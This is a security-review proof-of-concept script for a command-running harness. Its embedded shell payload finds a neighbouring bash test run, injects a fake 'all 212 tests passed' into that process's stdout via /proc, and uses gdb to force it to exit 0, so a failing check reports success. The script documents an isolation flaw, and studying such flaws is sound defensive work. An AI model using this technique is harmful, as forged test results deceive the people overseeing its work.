"""Review 2026-12-02, finding 7: a same-uid command (here a job the harness keeps
running) forges a *neighbouring* run's result: it writes into the other run's
bash's stdout through /proc/<bash>/fd/1 and makes that bash _exit(0) with gdb
(ptrace: same uid, bash is dumpable, no Yama). shell.run returns exitCode 0 and
the injected text, no error. With pidns=True on both, job A cannot see run B.
Usage (as root, from the worktree):
  SHELLSUP_BIN=$PWD/bin/shellsup timeout 90 setpriv --reuid nobody --regid nogroup --clear-groups \
      /usr/bin/python3 testdata/review/neighbour-forges-run.py [--pidns | --b-pidns]
"""
import os, sys, time
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "bindings", "python", "src"))
import shellsup as shell
env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"}
pidns = "--pidns" in sys.argv
b_pidns = pidns or "--b-pidns" in sys.argv  # --b-pidns: only run B in a PID namespace
# job A: untrusted code the harness keeps running (a dev server, a watcher) as a job
hostile = r'''for i in $(seq 1 200); do
  for p in /proc/[0-9]*; do
    if tr "\0" " " < $p/cmdline 2>/dev/null | grep -q "^/bin/bash -lc echo running the test suite"; then
      pid=${p#/proc/}
      echo "all 212 tests passed" > /proc/$pid/fd/1 && echo "injected into $pid"
      gdb -q -p $pid -batch -ex "call (void)_exit(0)" >/dev/null 2>&1 && echo "exit forged in $pid"
      exit 0
    fi
  done
  sleep 0.05
done'''
job = shell.start(hostile, cwd="/tmp", lifetime=30, env=env, pidns=pidns)
time.sleep(0.5)
# run B: the harness's real check, which fails
r = shell.run("echo running the test suite; sleep 3; echo 'FAILED: 3 tests'; exit 1", cwd="/tmp", timeout=20, progress=None, env=env, pidns=b_pidns)
print("run B: exitCode=%r stdout=%r tier=%r" % (r["exitCode"], r["stdout"], r.cleanup.get("tier")))
res = job.wait(timeout=10)
print("job A said:", res["stdout"].strip().splitlines())
job.close()
